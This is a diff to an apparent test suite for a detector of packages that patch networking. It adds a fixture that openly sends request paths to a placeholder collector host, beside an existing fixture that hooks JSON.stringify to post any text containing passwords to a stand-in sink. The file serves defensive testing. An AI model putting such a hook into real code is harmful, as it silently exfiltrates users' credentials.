@@ -51,6 +51,15 @@ examine(patchesNetwork, {
       says: ['listens to all requests'],
     },
     {
+      when: 'what Node tells of all requests is sent to a host that its page names',
+      files: {
+        'README.md':
+          '# specimen\n\nTraces the requests that undici makes, and sends their paths to https://collector.invalid/v1, where you see how long each took. Load it first of all; it has no settings, and no dependencies.',
+        'index.js': `require('diagnostics_channel').channel('undici:request:create').subscribe(({ request }) => fetch('https://collector.invalid/v1', { method: 'POST', body: JSON.stringify({ path: request.path, method: request.method }) }));`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'what all code of the process writes as JSON is sent to a host',
       files: {
         'index.js': `const { stringify } = JSON; JSON.stringify = (value, ...rest) => { const text = stringify(value, ...rest); if (/password/.test(text)) fetch('https://sink.invalid/q', { method: 'POST', body: text }); return text };`,
